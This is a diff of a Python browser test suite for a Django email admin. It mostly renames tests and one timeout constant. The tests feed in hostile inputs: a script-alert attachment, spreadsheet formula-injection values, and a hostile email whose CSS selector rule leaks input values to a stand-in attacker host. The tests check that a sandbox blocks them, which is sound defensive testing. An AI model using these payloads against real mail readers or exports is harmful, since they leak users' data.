@@ -1,4 +1,4 @@
-"""The admin, as people use it: in a real browser, in English and in Turkish."""
+"""The admin in a real browser, in English and in Turkish."""
 
 from __future__ import annotations
 
@@ -9,7 +9,7 @@ import re
 from devservers.process import wait_until
 from devservers.smtp_faults import refuse
 from tests.browser import inside
-from tests.browser.chrome import PATIENCE, PHONE, Chrome
+from tests.browser.chrome import PHONE, TIMEOUT, Chrome
 from tests.browser.conftest import Shop
 from tests.browser.web import Stranger
 
@@ -22,9 +22,7 @@ def page_of(mail: str, query: str = "") -> str:
     return f"{MAILS}{mail}/change/{query}"
 
 
-def test_an_operator_finds_out_why_a_mail_did_not_arrive(
-    shop: Shop, chrome: Chrome, language: str
-) -> None:
+def test_an_operator_finds_out_why_a_mail_failed(shop: Shop, chrome: Chrome, language: str) -> None:
     shop.smtp.inject(refuse("rcpt", 550, "5.1.1 No such user here", times=1))
     failed = shop.call(inside.send, f"nobody-{language}@example.com", f"Fatura {language}")
     shop.wait_until_it_is(failed, "failed")
@@ -46,7 +44,7 @@ def test_an_operator_finds_out_why_a_mail_did_not_arrive(
     chrome.picture(f"failed-{language}")
 
 
-def test_a_mail_is_queued_again_once_that_is_confirmed(
+def test_a_failed_mail_is_queued_again_after_confirmation(
     shop: Shop, chrome: Chrome, language: str
 ) -> None:
     shop.smtp.inject(refuse("rcpt", 550, "5.1.1 Not today", times=1))
@@ -75,12 +73,10 @@ def test_a_sent_mail_is_sent_again_from_its_page(shop: Shop, chrome: Chrome, lan
     def arrived() -> int:
         return sum(to in message.recipients for message in shop.smtp.accepted)
 
-    wait_until(lambda: arrived() == 2, timeout=PATIENCE, what="the second mail to arrive")
+    wait_until(lambda: arrived() == 2, timeout=TIMEOUT, what="the second mail to arrive")
 
 
-def test_mail_of_unknown_outcome_is_decided_about(
-    shop: Shop, chrome: Chrome, language: str
-) -> None:
+def test_an_unknown_outcome_is_decided(shop: Shop, chrome: Chrome, language: str) -> None:
     mail = shop.call(inside.send_tomorrow, f"lost-{language}@example.com", "Belki")
     shop.call(inside.lose, mail)
     chrome.open(page_of(mail))
@@ -102,7 +98,7 @@ def test_scheduled_mail_is_cancelled_or_sent_now(shop: Shop, chrome: Chrome) -> 
     shop.wait_until_it_is(now, "sent")
 
 
-def test_content_is_read_at_every_width_and_in_both_themes(
+def test_content_is_shown_at_both_widths_and_in_both_themes(
     shop: Shop, chrome: Chrome, language: str
 ) -> None:
     pdf = ("fatura.pdf", "%PDF-1.4", "application/pdf")
@@ -130,7 +126,7 @@ def _prefers_dark(chrome: Chrome) -> bool:
     return bool(chrome.driver.execute_script(script))
 
 
-def test_raw_messages_attachments_and_exports_are_saved(shop: Shop, english: Chrome) -> None:
+def test_raw_messages_attachments_and_exports_are_downloaded(shop: Shop, english: Chrome) -> None:
     page = ("page.html", "<script>alert(1)</script>", "text/html")
     mail = shop.deliver("=1+1@example.com", "=cmd", HTML, attachments=(page,))
     english.open(page_of(mail))
@@ -146,7 +142,7 @@ def test_raw_messages_attachments_and_exports_are_saved(shop: Shop, english: Chr
     assert (row["id"], row["subject"], row["recipients"]) == (mail, "'=cmd", "'=1+1@example.com")
 
 
-def test_a_queue_is_paused_and_goes_on(shop: Shop, chrome: Chrome, language: str) -> None:
+def test_a_queue_is_paused_and_resumed(shop: Shop, chrome: Chrome, language: str) -> None:
     shop.deliver("a@example.com", "Before")
     chrome.open("/admin/epica_mail/deliverygate/")
     chrome.press("button[value='pause queue emails']")
@@ -184,7 +180,7 @@ def test_templates_are_previewed(chrome: Chrome, language: str) -> None:
     chrome.driver.switch_to.default_content()
 
 
-def test_who_may_only_look_is_shown_no_content_and_no_buttons(shop: Shop, viewer: Chrome) -> None:
+def test_a_viewer_sees_no_content_and_no_buttons(shop: Shop, viewer: Chrome) -> None:
     mail = shop.deliver("ayse@example.com", "Gizli", HTML)
     viewer.open(MAILS)
     assert not viewer.all("select[name=action]")
@@ -196,13 +192,13 @@ def test_who_may_only_look_is_shown_no_content_and_no_buttons(shop: Shop, viewer
     assert not viewer.all(".epica-detail form")
 
 
-def test_a_mail_links_to_celerys_result_of_it(shop: Shop, english: Chrome) -> None:
+def test_a_mail_links_to_its_celery_result(shop: Shop, english: Chrome) -> None:
     mail = shop.deliver("a@example.com", "With a result", store_result=True)
     wait_until(
         lambda: shop.fetch(
             f"SELECT 1 FROM django_celery_results_taskresult WHERE task_id = '{mail}'"
         ),
-        timeout=PATIENCE,
+        timeout=TIMEOUT,
         what="the result to be stored",
     )
     english.open(page_of(mail))
@@ -230,9 +226,7 @@ input[value^="s"] {{ background: url({evil}/exfiltrated) }}</style>
 </body></html>"""
 
 
-def test_a_mail_that_attacks_who_reads_it_reaches_nothing(
-    shop: Shop, english: Chrome, stranger: Stranger
-) -> None:
+def test_a_hostile_mail_reaches_nothing(shop: Shop, english: Chrome, stranger: Stranger) -> None:
     mail = shop.deliver("a@example.com", "Evil", HOSTILE.format(evil=stranger.url))
     english.open(page_of(mail))
     address, title = english.driver.current_url, english.driver.title
@@ -248,32 +242,30 @@ def test_a_mail_that_attacks_who_reads_it_reaches_nothing(
     assert stranger.hits == []
 
     english.press(".epica-toolbar a[href*='images=1']")
-    wait_until(lambda: stranger.hits, timeout=PATIENCE, what="the image to be asked for")
+    wait_until(lambda: stranger.hits, timeout=TIMEOUT, what="the image to be asked for")
     english.driver.switch_to.frame(english.one("iframe.epica-frame"))
     assert "Hello" in english.text
     english.driver.switch_to.default_content()
     asked = {re.sub(r"\?.*", "", hit.path) for hit in stranger.hits}
     assert "/image" in asked
-    assert asked <= {"/image", "/background", "/exfiltrated"}  # images, as was asked for
+    assert asked <= {"/image", "/background", "/exfiltrated"}  # only images, as requested
     assert {(hit.cookie, hit.referrer) for hit in stranger.hits} == {("", "")}
     assert english.driver.title == title
 
 
-def test_the_same_attack_succeeds_where_nothing_keeps_it_from_it(
-    english: Chrome, stranger: Stranger
-) -> None:
+def test_the_same_attack_succeeds_without_the_sandbox(english: Chrome, stranger: Stranger) -> None:
     stranger.page = HOSTILE.format(evil=stranger.url).replace("alert", "void")
     english.driver.get(f"{stranger.url}/page")
     wanted = {"/script", "/link.css", "/import.css", "/image", "/exfiltrated", "/refresh"}
     wait_until(
         lambda: wanted <= {hit.path for hit in stranger.hits},
-        timeout=PATIENCE,
+        timeout=TIMEOUT,
         what="the attack to succeed",
         details=lambda: str(stranger.hits),
     )
 
 
-def test_a_page_that_is_opened_outside_its_frame_is_as_harmless(
+def test_a_hostile_mail_is_harmless_outside_its_frame(
     shop: Shop, english: Chrome, stranger: Stranger
 ) -> None:
     mail = shop.deliver("a@example.com", "Evil", HOSTILE.format(evil=stranger.url))
